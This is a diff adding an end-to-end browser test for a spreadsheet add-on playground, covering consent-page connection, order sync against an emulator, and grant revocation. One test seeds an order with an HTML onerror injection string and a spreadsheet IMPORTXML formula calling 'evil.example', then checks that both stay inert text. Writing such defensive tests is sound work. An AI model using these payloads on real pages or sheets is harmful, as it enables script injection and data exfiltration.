@@ -1,0 +1,123 @@
+/**
+ * End to end in real Chromium: the playground (emulator + local runtime + built add-on) started in
+ * this process. Connect through the emulator's consent page, sync, compare with the emulator's
+ * truth, revoke, and check that hostile text stays text.
+ */
+import { existsSync } from 'node:fs';
+import { mkdir } from 'node:fs/promises';
+import path from 'node:path';
+import type { Browser, Frame, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startPlayground, type Playground } from '../../dev/playground/app';
+import type { WorkbookView } from '../../dev/playground/workbook-view';
+import { startStack, type Stack } from '../../dev/harness/index';
+import { hasChromium, launchChromium, SKIP_REASON } from './chromium';
+
+const root = path.resolve(__dirname, '../..');
+const dist = path.join(root, 'dist');
+const screenshots = path.join(root, 'out/screenshots');
+const HOSTILE_UTM = '<img src=x onerror="window.__pwned=1">spring';
+const FORMULA_UTM = '=IMPORTXML("http://evil.example/","//a")';
+
+async function getJson<T>(url: string): Promise<T> {
+  const response = await fetch(url);
+  if (!response.ok) throw new Error(`GET ${url}: HTTP ${response.status}`);
+  return (await response.json()) as T;
+}
+
+const ready = hasChromium && existsSync(path.join(dist, 'Sidebar.html'));
+
+describe.skipIf(!ready)('playground end to end (Chromium, emulator, local runtime)', () => {
+  let stack: Stack;
+  let playground: Playground;
+  let browser: Browser;
+  let page: Page;
+  let sidebar: Frame;
+  let store: { id: string; name: string; shop_domain: string };
+  let hostileOrderId: string;
+
+  beforeAll(async () => {
+    stack = await startStack({ orders: 300, seed: 11, plan: 'plus' });
+    store = (await getJson<{ store: typeof store }>(`${stack.apiUrl}/_emulator/truth/store`)).store;
+    const truth = await getJson<{ data: Array<{ id: string }> }>(`${stack.apiUrl}/_emulator/truth/orders?store=${encodeURIComponent(store.id)}`);
+    hostileOrderId = truth.data[0]!.id;
+    await stack.control(`/_emulator/orders/${hostileOrderId}/patch`, { attribution: { utm_campaign: HOSTILE_UTM, utm_source: FORMULA_UTM } });
+    playground = await startPlayground({ stack, distDir: dist, port: 0 });
+    browser = await launchChromium();
+    page = await browser.newPage({ viewport: { width: 1400, height: 1000 } });
+    await page.goto(playground.url);
+    const frame = page.frame({ url: /\/playground\/sidebar$/ });
+    if (!frame) throw new Error('the sidebar iframe did not load');
+    sidebar = frame;
+    await mkdir(screenshots, { recursive: true });
+  }, 120_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await playground?.close();
+    await stack?.close();
+  });
+
+  it('Connect opens the consent page in a new window; approving the store connects the sidebar', async () => {
+    await sidebar.waitForSelector('#connect:not([hidden])');
+    expect(await sidebar.textContent('#connection-text')).toBe('Not connected');
+    const [popup] = await Promise.all([page.waitForEvent('popup'), sidebar.click('#connect')]);
+    await popup.waitForSelector('form#consent');
+    await popup.check(`input[name="store_id"][value="${store.id}"]`);
+    await Promise.all([popup.waitForURL(/\/usercallback/), popup.click('button[value="approve"]')]);
+    const callbackText = (await popup.textContent('body')) ?? '';
+    expect(callbackText).toMatch(/connected/i);
+    await popup.close();
+    await sidebar.waitForFunction(() => document.querySelector('#connection-text')?.textContent === 'Connected', undefined, { timeout: 30_000 });
+    expect(await sidebar.textContent('#store-name')).toBe(store.name);
+    expect(await sidebar.textContent('#store-domain')).toBe(`(${store.shop_domain})`);
+    expect(await sidebar.textContent('#plan-window')).toBe('Full history');
+    expect(await sidebar.isVisible('#sync-now')).toBe(true);
+  }, 60_000);
+
+  it('Sync now runs to the end with a progress bar; the Orders sheet has the truth row count', async () => {
+    await sidebar.click('#sync-now');
+    await sidebar.waitForSelector('#progress:not([hidden])');
+    expect(await sidebar.isDisabled('#disconnect')).toBe(true);
+    await sidebar.waitForFunction(() => document.querySelector('#status')?.textContent === 'Sync finished.', undefined, { timeout: 150_000 });
+    expect(await sidebar.getAttribute('#progress', 'aria-valuenow')).toBe('100');
+    expect(await sidebar.isVisible('#problem')).toBe(false);
+    const truth = await getJson<{ data: unknown[] }>(`${stack.apiUrl}/_emulator/truth/orders?store=${encodeURIComponent(store.id)}`);
+    const workbook = await getJson<WorkbookView>(`${playground.url}playground/workbook`);
+    const orders = workbook.sheets.find((s) => s.name === 'Orders');
+    expect(orders).toBeDefined();
+    expect(orders!.totalRows - 1).toBe(truth.data.length);
+    expect(await sidebar.textContent('#jobs')).toMatch(/rows/);
+    await sidebar.locator('main').screenshot({ path: path.join(screenshots, 'sidebar-synced.png') });
+  }, 180_000);
+
+  it('hostile order text reaches the sheet and the page as text, never as HTML or a formula', async () => {
+    const workbook = await getJson<WorkbookView & { sheets: Array<{ name: string; rows: unknown[][] }> }>(`${playground.url}playground/workbook`);
+    const orders = workbook.sheets.find((s) => s.name === 'Orders')!;
+    const header = orders.rows[0]!.map(String);
+    const row = orders.rows.find((r) => r[header.indexOf('id')] === hostileOrderId);
+    expect(row?.[header.indexOf('utm_campaign')]).toBe(HOSTILE_UTM);
+    expect(row?.[header.indexOf('utm_source')]).toBe(FORMULA_UTM);
+    await page.click('#tabs button:has-text("Orders")');
+    await page.waitForSelector(`#sheet td[title="${HOSTILE_UTM.replace(/"/g, '\\"')}"]`);
+    expect(await page.locator('#sheet img').count()).toBe(0);
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+    await page.screenshot({ path: path.join(screenshots, 'playground.png') });
+  }, 30_000);
+
+  it('after the merchant revokes the grant, the sidebar says what happened and offers Reconnect', async () => {
+    await stack.control('/_emulator/grants/revoke');
+    await stack.advanceClocks(120_000); // revocation takes effect "within about one minute"
+    await sidebar.click('#sync-now');
+    await sidebar.waitForSelector('#problem:not([hidden])', { timeout: 60_000 });
+    await sidebar.waitForFunction(() => document.querySelector('#status')?.classList.contains('busy') === false);
+    expect(await sidebar.textContent('#problem-message')).toMatch(/turned off|disconnected/i);
+    expect(await sidebar.textContent('#problem-action')).toBe('Reconnect');
+    expect(await sidebar.textContent('#connection-text')).toBe('Access was revoked');
+    expect(await sidebar.isVisible('#reconnect')).toBe(true);
+    expect(await sidebar.textContent('#store-name')).toBe(store.name);
+    await sidebar.locator('main').screenshot({ path: path.join(screenshots, 'sidebar-revoked.png') });
+  }, 90_000);
+});
+
+if (!ready) describe('playground end to end', () => it.skip(hasChromium ? 'dist/ is missing: run npm run build first' : SKIP_REASON, () => undefined));
